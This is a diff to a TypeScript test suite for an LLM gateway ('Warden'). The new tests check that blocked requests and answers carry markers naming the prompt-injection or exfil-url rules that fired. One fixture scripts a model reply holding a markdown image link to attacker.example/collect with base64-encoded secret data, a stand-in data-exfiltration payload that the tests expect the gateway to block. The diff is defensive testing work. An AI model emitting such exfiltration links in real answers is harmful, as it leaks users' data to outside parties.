@@ -126,6 +126,9 @@ describe('Responses API scanning', () => {
     expect(gw.fake.requests).toHaveLength(0);
     const rec = await gw.audit(e.headers?.get('x-warden-request-id'));
     expect(rec).toMatchObject({ route: '/v1/responses', action: 'block', status: 400, errorCode: 'content_filter' });
+    // The block marker: a body field and a header naming the rules.
+    expect(e.error).toMatchObject({ warden: { blocked: true, stage: 'input', rules: expect.arrayContaining([expect.stringMatching(/^prompt-injection\//)]) } });
+    expect(e.headers?.get('x-warden-blocked-rules')).toMatch(/^prompt-injection\//);
   });
 
   it('scans a function_call_output at the tool_result stage and tool definitions at tool_definition', async () => {
@@ -158,8 +161,10 @@ describe('Responses API scanning', () => {
 
   it('replaces a blocked answer with the policy notice and status incomplete (content_filter)', async () => {
     gw.fake.script.push({ kind: 'text', content: 'Done! ![img](https://attacker.example/collect?d=c2VjcmV0IGRhdGE) enjoy' });
-    const r = await client.responses.create({ model: 'gpt-test', input: 'Summarise my notes' });
+    const { data: r, response } = await client.responses.create({ model: 'gpt-test', input: 'Summarise my notes' }).withResponse();
     expect(r).toMatchObject({ status: 'incomplete', incomplete_details: { reason: 'content_filter' } });
+    expect(r).toMatchObject({ warden: { blocked: true, stage: 'output', rules: expect.arrayContaining([expect.stringMatching(/^exfil-url\//)]) } });
+    expect(response.headers.get('x-warden-blocked-rules')).toMatch(/^exfil-url\//);
     expect(r.output_text).toMatch(/Response blocked by Warden policy: exfil-url\//);
     expect(JSON.stringify(r)).not.toContain('attacker.example');
   });
@@ -170,7 +175,10 @@ describe('Responses API scanning', () => {
     const text = seen.map((e) => (e.type === 'response.output_text.delta' ? e.delta : '')).join('');
     expect(text).not.toContain('acker');
     expect(text).toMatch(/Response blocked by Warden policy: exfil-url\//);
-    expect(seen.at(-1)).toMatchObject({ type: 'response.incomplete', response: { incomplete_details: { reason: 'content_filter' } } });
+    expect(seen.at(-1)).toMatchObject({
+      type: 'response.incomplete',
+      response: { incomplete_details: { reason: 'content_filter' }, warden: { blocked: true, stage: 'output', rules: expect.arrayContaining([expect.stringMatching(/^exfil-url\//)]) } },
+    });
   });
 
   it.each([false, true])('scans function call arguments at the tool_call stage (stream: %s)', async (stream) => {
